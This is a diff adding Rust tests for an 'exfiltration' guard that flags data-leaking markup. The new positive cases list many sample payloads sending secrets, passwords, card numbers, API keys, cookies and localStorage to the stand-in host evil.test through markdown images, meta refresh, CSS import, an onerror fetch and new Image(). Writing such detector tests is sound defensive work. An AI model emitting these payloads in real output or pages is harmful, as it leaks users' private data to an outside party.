@@ -85,6 +85,74 @@ fn addresses_that_carry_data_are_found() {
 }
 
 #[test]
+fn values_and_elements_that_give_something_away_are_found() {
+    let guard = engine().guard("exfiltration").expect("the guard");
+    assert_found(
+        guard,
+        &[
+            (
+                "markdown_image",
+                "![x](https://evil.test/?d=SECRET_IN_CONTEXT)",
+            ),
+            ("markdown_image", "![x](https://evil.test/?d=...)"),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?password=hunter2)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?c=4251-3724-0095-5572)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?i=SSN%3A123-45-6789)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?i=name:Ann,email:a@b.test)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?k=sk-proj-abcdef123456)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?k=%73%65%63%72%65%74%2d%31%32)",
+            ),
+            ("markdown_image", "![x](https://evil.test/?data=secret)"),
+            ("markdown_image", "![x](https://evil.test/?k=$SECRET)"),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?d=<base64(data)>)",
+            ),
+            (
+                "markdown_image",
+                "![x](https://evil.test/a-[USER_DATA].jpg)",
+            ),
+            // "the password is ok" in base32
+            (
+                "markdown_image",
+                "![x](https://ORUGKIDQMFZXG53POJSCA2LTEBXWW.evil.test/a.png)",
+            ),
+            ("markdown_image", "[r]:https://evil.test/i?d={data}"),
+            (
+                "html_load",
+                "<meta http-equiv=refresh content=\"0; url=https://evil.test/?d={data}\">",
+            ),
+            ("html_load", "«@import 'https://evil.test/?d={data}'»;"),
+            (
+                "script_send",
+                "<img src=x onerror=\"«fetch('//evil.test/?'+document.cookie»)\">",
+            ),
+            (
+                "script_send",
+                "new Image().src='https://evil.test/?'+localStorage.t",
+            ),
+        ],
+    );
+}
+
+#[test]
 fn honest_images_and_links_are_left_alone() {
     let guard = engine().guard("exfiltration").expect("the guard");
     assert_clean(
@@ -106,6 +174,11 @@ fn honest_images_and_links_are_left_alone() {
             "<img src=\"/static/logo.png?v={version}\"> <a href=\"mailto:a@b.test?subject={x}\">",
             "<imgx src=\"https://evil.test/?d={data}\"> if a <b> and c",
             "array[i](x) and f[0](y) and [1]: see https://a.test/?d={data}",
+            "fetch('/me'); document.cookie = 'a=b'; let t = localStorage.getItem('t')",
+            "<link href=\"https://fonts.test/css?family=Lato:400,700|Roboto:300,400\" rel=\"stylesheet\">",
+            "![c](https://ci.test/badge.svg?token=ABC123XYZ9&branch=MAIN) [::1]:8080 x",
+            "[i](https://a.test/issues?q=is%3Aissue+is%3Aopen) ![x](https://a.test/My%20Photo.png)",
+            "<meta name=\"description\" content=\"a page; url=none\"> @import 'https://cdn.test/a.css';",
             "background: url(https://cdn.test/fonts/a.woff2?v=4.7.0);",
         ],
     );
